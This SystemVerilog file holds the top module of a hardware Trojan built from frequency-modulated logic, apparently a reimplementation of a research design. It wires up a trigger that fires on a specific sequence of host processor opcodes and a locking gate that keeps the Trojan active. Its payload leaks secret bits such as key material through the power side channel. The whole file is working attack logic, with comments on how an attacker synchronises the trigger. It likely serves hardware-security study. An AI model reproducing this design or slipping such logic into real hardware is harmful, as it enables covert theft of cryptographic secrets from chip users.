// fm_trojan_top -- complete hardware Trojan built from frequency-modulated logic.
//
// Trigger path: the host processor's opcode stream is decoded into the events alpha,
// beta, gamma, delta (opcode_event_decode); event_sync delays them by 4, 3, 2 and 1
// cycles, so that the string alpha-beta-gamma-delta on consecutive cycles makes the
// standard signals A, B, C, D high together. Each is converted to FM by a concealed FM
// cell, and an FM gate computes A.B.C.D. With LOCK = 1 (default) this gate is the locking
// AND gate, so the Trojan stays active once triggered; with LOCK = 0 it is an ordinary FM
// AND gate and the activation lasts one ring turn (N cycles). The string is only caught
// if A..D are high in a SYNC cycle: an attacker issues it in step with SYNC (exported
// here as `sync`) or repeats it at varying intervals.
//
// Activation: the trigger gate's FM output is read in every SYNC cycle into the standard
// flag `active`, which therefore changes only on the edge that ends a SYNC cycle; the
// scenario input `scen` is registered on the same edges.
// Latency: A..D high in SYNC cycle t -> encoders hold it at t+N -> trigger gate holds it
// at t+2N -> active from cycle t+2N+1.
//
// Payload: every FM ring of the Trojan (the four input cells, the trigger gate and the
// SECRET_W secret cells, which carry the data to be leaked, e.g. key bits of the host
// design) sits in a concealed cell with three replicas. Before activation the number of
// 1s held and the number of transitions per cycle are constant. After activation the
// replicas are frozen according to `scen` (SCEN_SINGLE / SCEN_DOUBLE, see fm_conceal), so
// the power drawn by the rings depends on the data they hold: the secret leaks through the
// power side channel and no output pin is driven by the payload.
//
// Ports: clk, rst (synchronous, active high); opcode/opcode_valid from the host
// processor; secret (standard-logic bits to leak); scen (payload scenario); sync and
// fm_trigger (the trigger gate's FM signal) for an attacker that synchronises to SYNC;
// ring_state, the contents of every flip-flop ring, which stands in for the power side
// channel in simulation: index 0 is the SYNC ring, then four rings per concealed cell in
// the order A..D cells, trigger gate, secret cells.
//
// The composition follows the original design; the opcode decoder's values, the secret
// inputs, the `active` flag and the observation ports are this design's choices.
module fm_trojan_top
  import fm_pkg::*;
#(
  parameter int unsigned                   N        = CSR_LEN,
  parameter int unsigned                   N_EV     = 4,
  parameter int unsigned                   OPC_W    = 8,
  parameter logic [N_EV-1:0][OPC_W-1:0]    OPCODES  = {8'h4C, 8'h2A, 8'hB3, 8'h17},
  parameter bit                            LOCK     = 1'b1,
  parameter int unsigned                   SECRET_W = 1,
  localparam int unsigned                  N_CELLS  = N_EV + 1 + SECRET_W,
  localparam int unsigned                  N_RINGS  = 1 + CONCEAL_RINGS * N_CELLS
) (
  input  logic                          clk,
  input  logic                          rst,
  input  logic [OPC_W-1:0]              opcode,
  input  logic                          opcode_valid,
  input  logic [SECRET_W-1:0]           secret,
  input  payload_scen_e                 scen,
  output logic                          sync,
  output logic                          fm_trigger,
  output logic [N_RINGS-1:0][N:1]       ring_state
);

  logic [N_EV-1:0]                          ev, ev_sync, in_fm;
  logic                                     active;
  payload_scen_e                            scen_q;
  logic [N_CELLS-1:0][CONCEAL_RINGS-1:0][N:1] cell_rings;

  opcode_event_decode #(.OPC_W(OPC_W), .N_EV(N_EV), .OPCODES(OPCODES)) u_dec (
    .opcode, .opcode_valid, .ev);

  event_sync #(.N_EV(N_EV)) u_evs (
    .clk, .rst, .ev, .ev_sync);

  fm_sync_gen #(.N(N)) u_sync (
    .clk, .rst, .sync, .stage(ring_state[0]));

  // Standard-to-FM conversion of A, B, C, D.
  for (genvar i = 0; i < N_EV; i++) begin : g_in
    fm_conceal #(.N(N)) u_cell (
      .clk, .rst, .sync, .f(ev_sync[i]), .active, .scen(scen_q),
      .fm_out(in_fm[i]), .rings(cell_rings[i]));
  end

  // Trigger gate F = A.B.C.D.
  if (LOCK) begin : g_lock
    fm_lock_and #(.N(N), .N_IN(N_EV)) u_trig (
      .clk, .rst, .sync, .in_fm, .active, .scen(scen_q),
      .fm_out(fm_trigger), .rings(cell_rings[N_EV]));
  end else begin : g_nolock
    fm_gate #(.N(N), .N_IN(N_EV), .FN(FN_AND)) u_trig (
      .clk, .rst, .sync, .in_fm, .active, .scen(scen_q),
      .fm_out(fm_trigger), .rings(cell_rings[N_EV]));
  end

  // Secret-carrying cells: their FM frequency becomes visible once active.
  for (genvar i = 0; i < SECRET_W; i++) begin : g_secret
    fm_conceal #(.N(N)) u_cell (
      .clk, .rst, .sync, .f(secret[i]), .active, .scen(scen_q),
      .fm_out(), .rings(cell_rings[N_EV + 1 + i]));
  end

  // FM-to-standard decode of the trigger: its data bit is on fm_out in SYNC cycles.
  // The scenario input is taken at the same edges, so that replicas are only ever frozen
  // and released on the edge that ends a SYNC cycle and stay in step with SYNC.
  always_ff @(posedge clk) begin
    if (rst) begin
      active <= 1'b0;
      scen_q <= SCEN_SINGLE;
    end else if (sync) begin
      active <= fm_trigger;
      scen_q <= scen;
    end
  end

  assign ring_state[N_RINGS-1:1] = cell_rings;

endmodule
